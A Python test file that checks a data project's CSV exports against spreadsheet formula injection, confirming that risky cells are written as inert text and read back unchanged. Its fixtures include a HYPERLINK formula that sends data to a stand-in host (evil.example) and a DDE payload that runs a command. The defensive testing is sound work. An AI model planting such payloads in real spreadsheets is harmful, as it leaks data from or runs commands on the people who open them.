"""CSV written for people never hands a spreadsheet a formula to run (issue 21, "Data that
reaches spreadsheets"): candidates files, chart data and the tables in reports/data/.

Before issue 21 a document line starting with ``=HYPERLINK(...)`` landed as the first
character of a cell of the candidates file, and, once accepted, of chart CSVs and
reports/data/.
"""

from __future__ import annotations

import shutil

import altair as alt
import pandas as pd
import pytest

from magnet_watch import paths
from magnet_watch.curation.accept import accept_candidates
from magnet_watch.curation.add import add_document
from magnet_watch.data.load import load_package
from magnet_watch.notebook.display import export_chart
from magnet_watch.reports.publish import copy_data
from magnet_watch.text.spreadsheet import neutralise, restore

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","IREL")'
LINE = f"{HYPERLINK} plans to produce 600 metric tons of neodymium a year by 2028."


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+1+cmd|x", "'+1+cmd|x"),
        ("- a bullet point", "'- a bullet point"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already marked", "''=already marked"),
        ("-56", "-56"),
        ("+1.5e3", "+1.5e3"),
        ("-0.25", "-0.25"),
        ("IREL said = 5", "IREL said = 5"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back_unchanged(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


@pytest.fixture
def corpus(tmp_path):
    shutil.copytree(paths.DATA_DIR, tmp_path / "data")
    shutil.copytree(paths.SEEDS_DIR, tmp_path / "seeds")
    return tmp_path / "data", tmp_path / "seeds", tmp_path / "candidates"


def test_a_formula_in_a_document_is_text_in_its_candidates_file_and_accepted_verbatim(
    tmp_path, corpus
):
    data_dir, seeds_dir, candidates_dir = corpus
    article = tmp_path / "formula.txt"
    article.write_text(f"Magnet plans\n12 March 2026\n{LINE}\n", encoding="utf-8")
    added = add_document(
        article, data_dir=data_dir, seeds_dir=seeds_dir, candidates_dir=candidates_dir
    )
    text = added.candidates_path.read_text(encoding="utf-8")
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "@", "+"))], text
    assert f"'{HYPERLINK}".replace('"', '""') in text

    # The curator marks the row (pandas keeps the cells as written) and accepts it.
    frame = pd.read_csv(added.candidates_path, dtype=str, keep_default_na=False)
    row = frame.index[frame["quantity_text"] == "600 metric tons"]
    frame.loc[row, ["accept", "fact_id", "subject", "period_type"]] = [
        "yes",
        "formula_irel_plan",
        "IREL",
        "target_date",
    ]
    frame.to_csv(added.candidates_path, index=False)
    accept_candidates(added.candidates_path, data_dir=data_dir)
    facts = load_package(data_dir).facts.set_index("fact_id")
    assert facts.loc["formula_irel_plan", "quote"] == LINE


def test_chart_data_and_published_tables_write_formulas_as_text(tmp_path):
    frame = pd.DataFrame(
        {"year": [2025, 2026], "value_t": [-5.0, 3.0], "quote": [HYPERLINK, "- a bullet"]}
    )
    spec = alt.Chart(frame).mark_point().encode(x="year:O", y="value_t:Q").to_dict()
    files = export_chart(spec, "hostile", tmp_path / "charts", png=False)
    chart_csv = files["csv"].read_text(encoding="utf-8")
    assert "'=HYPERLINK" in chart_csv and "'- a bullet" in chart_csv
    assert "\n2025,-5.0," in chart_csv  # a negative number stays a number

    data = tmp_path / "data"
    (data / "reference").mkdir(parents=True)
    (data / "facts.csv").write_text('id,quote\n1,"@SUM(A1:A9)"\n2,-3\n', encoding="utf-8")
    clean = 'id,quote\n1,"quoted, with a comma"\n'
    (data / "reference" / "pages.csv").write_text(clean, encoding="utf-8")
    copy_data(tmp_path / "stage", data)
    published = tmp_path / "stage" / "data"
    assert (published / "facts.csv").read_text(
        encoding="utf-8"
    ) == "id,quote\n1,'@SUM(A1:A9)\n2,-3\n"
    assert (published / "reference" / "pages.csv").read_text(encoding="utf-8") == clean
